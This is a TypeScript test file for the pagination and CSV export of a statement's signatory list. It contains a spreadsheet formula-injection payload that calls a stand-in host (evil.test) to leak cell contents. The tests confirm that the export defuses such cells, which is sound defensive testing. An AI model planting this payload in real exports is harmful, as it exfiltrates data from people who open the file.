import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { listCsv, listPage } from '../../src/signatories/list.ts'
import type { PublicStatement, Signatory } from '../../src/storage/public.ts'

const signatory = (changes: Partial<Signatory> = {}): Signatory => ({
  id: '4b1f3f5e-5f0e-4a59-9d5c-0d1b7a1c9e11',
  name: 'Human Constanta',
  names: { en: null, be: null, ru: null },
  country: 'BY',
  website: null,
  comment: null,
  founding: true,
  version: 1,
  signedOn: null,
  ...changes,
})

const statement = (signatories: Signatory[]): PublicStatement => ({
  slug: 'forcible-expulsion',
  defaultLanguage: 'en',
  revision: 12,
  version: 1,
  change: 'substantive',
  publishedAt: '2026-03-01T12:00:00.000Z',
  sha256: '0'.repeat(64),
  texts: [],
  earlier: [],
  signatories,
})

const many = (count: number) =>
  statement(Array.from({ length: count }, (_, i) => signatory({ id: `id-${i}`, name: `Organisation ${i}` })))

describe('pages of the list', () => {
  it('the whole, when it fits', () => {
    const list = many(3)
    expect(listPage(list, undefined, 3)).toEqual({
      statement: 'forcible-expulsion',
      count: 3,
      revision: 12,
      signatories: list.signatories,
      next: null,
    })
  })

  it('count is of the whole list on every page, and next is the last one shown', () => {
    const list = many(5)
    expect(listPage(list, undefined, 2)).toMatchObject({ count: 5, next: 'id-1' })
    expect(listPage(list, 'id-1', 2)).toMatchObject({ count: 5, next: 'id-3' })
    expect(listPage(list, 'id-3', 2)).toMatchObject({ count: 5, next: null })
  })

  it('an empty list, and the page after the last', () => {
    expect(listPage(many(0), undefined, 10)).toMatchObject({ count: 0, signatories: [], next: null })
    expect(listPage(many(2), 'id-1', 10)).toMatchObject({ count: 2, signatories: [], next: null })
  })

  it('nothing after a signatory who is not on the list', () => {
    expect(listPage(many(2), 'id-9', 10)).toBeNull()
    expect(listPage(many(0), 'id-0', 10)).toBeNull()
    expect(listPage(many(2), '', 10)).toBeNull()
  })

  it('following next meets everyone once, in order, whatever the limit', () => {
    fc.assert(
      fc.property(fc.integer({ min: 0, max: 60 }), fc.integer({ min: 1, max: 70 }), (count, limit) => {
        const list = many(count)
        const met: string[] = []
        let after: string | undefined
        for (let pages = 0; pages <= count; pages++) {
          const page = listPage(list, after, limit)
          if (!page) throw new Error('a page is missing')
          expect(page.signatories.length).toBeLessThanOrEqual(limit)
          met.push(...page.signatories.map(({ id }) => id))
          if (page.next === null) break
          expect(page.signatories.length).toBe(limit)
          after = page.next
        }
        expect(met).toEqual(list.signatories.map(({ id }) => id))
      }),
    )
  })
})

/** RFC 4180 as a reader has it, and strictly: throws on what is not CSV. */
function parseCsv(csv: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let rest = csv
  while (rest !== '') {
    const cell = /^(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/.exec(rest)
    if (!cell) throw new Error(`not CSV: ${JSON.stringify(rest.slice(0, 40))}`)
    row.push(cell[1] === undefined ? (cell[2] ?? '') : cell[1].replaceAll('""', '"'))
    if (cell[3] === '\r\n') {
      rows.push(row)
      row = []
    }
    rest = rest.slice(cell[0].length)
  }
  if (row.length > 0) throw new Error('the last line has no end')
  return rows
}

const rowsOf = (signatories: Signatory[]) => parseCsv(listCsv(statement(signatories)).slice(1))

describe('the list as CSV', () => {
  const columns = 'id,name,name_en,name_be,name_ru,country,website,comment,founding,version,signed_on'.split(
    ',',
  )

  it('begins with a byte order mark and the names of the columns, and ends each line with CRLF', () => {
    const csv = listCsv(statement([signatory()]))
    expect(new TextEncoder().encode(csv).slice(0, 3)).toEqual(Uint8Array.of(0xef, 0xbb, 0xbf))
    expect(csv.endsWith('\r\n')).toBe(true)
    expect(rowsOf([])).toEqual([columns])
    expect(rowsOf([signatory()])[1]).toHaveLength(columns.length)
  })

  it('has every value in its column', () => {
    const [, row] = rowsOf([
      signatory({
        name: 'Human Rights Center “Viasna”',
        names: { en: 'Viasna', be: 'Вясна', ru: 'Весна' },
        website: 'https://spring96.org',
        comment: 'a, "b"',
        founding: false,
        version: 2,
        signedOn: '2026-03-02',
      }),
    ])
    expect(Object.fromEntries(columns.map((column, i) => [column, row?.[i]]))).toEqual({
      id: '4b1f3f5e-5f0e-4a59-9d5c-0d1b7a1c9e11',
      name: 'Human Rights Center “Viasna”',
      name_en: 'Viasna',
      name_be: 'Вясна',
      name_ru: 'Весна',
      country: 'BY',
      website: 'https://spring96.org',
      comment: 'a, "b"',
      founding: 'false',
      version: '2',
      signed_on: '2026-03-02',
    })
  })

  it('leaves unknown values empty', () => {
    const [, row] = rowsOf([signatory({ country: null })])
    expect(row?.slice(2)).toEqual(['', '', '', '', '', '', 'true', '1', ''])
  })

  const formulas = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠']

  it.each(formulas)(
    'makes text of a cell that begins with %j, in every column that a stranger fills',
    start => {
      const payload = `${start}HYPERLINK("https://evil.test?"&A1,"x")`
      const text = `'${payload}`
      const [, row] = rowsOf([
        signatory({
          name: payload,
          names: { en: payload, be: payload, ru: payload },
          country: payload,
          website: payload,
          comment: payload,
        }),
      ])
      expect(row?.slice(1, 8)).toEqual([text, text, text, text, text, text, text])
    },
  )

  it('leaves the same characters alone elsewhere', () => {
    const name = 'A=B + C - D @ E'
    expect(rowsOf([signatory({ name })])[1]?.[1]).toBe(name)
  })

  it('comes back from a strict reader, cell by cell, and no cell begins like a formula', () => {
    const text = fc.oneof(
      fc.string({
        unit: fc.constantFrom('"', ',', '\r', '\n', '=', '+', '-', '@', '\t', "'", ' ', 'ў', '＝', ';'),
      }),
      fc.string({ unit: 'grapheme' }),
    )
    const orNull = fc.option(text)
    const signatories = fc.array(
      fc
        .record({
          name: text,
          names: fc.record({ en: orNull, be: orNull, ru: orNull }),
          country: orNull,
          website: orNull,
          comment: orNull,
          founding: fc.boolean(),
          signedOn: fc.option(fc.constant('2026-03-02')),
        })
        .map(signatory),
      { maxLength: 5 },
    )
    const asText = (value: string | null) =>
      value === null ? '' : formulas.some(start => value.startsWith(start)) ? `'${value}` : value
    fc.assert(
      fc.property(signatories, list => {
        const rows = rowsOf(list)
        expect(rows).toEqual([
          columns,
          ...list.map(s => [
            s.id,
            ...[s.name, s.names.en, s.names.be, s.names.ru, s.country, s.website, s.comment].map(asText),
            String(s.founding),
            String(s.version),
            s.signedOn ?? '',
          ]),
        ])
        for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r＝＋－＠]/)
      }),
      { numRuns: 500 },
    )
  })
})
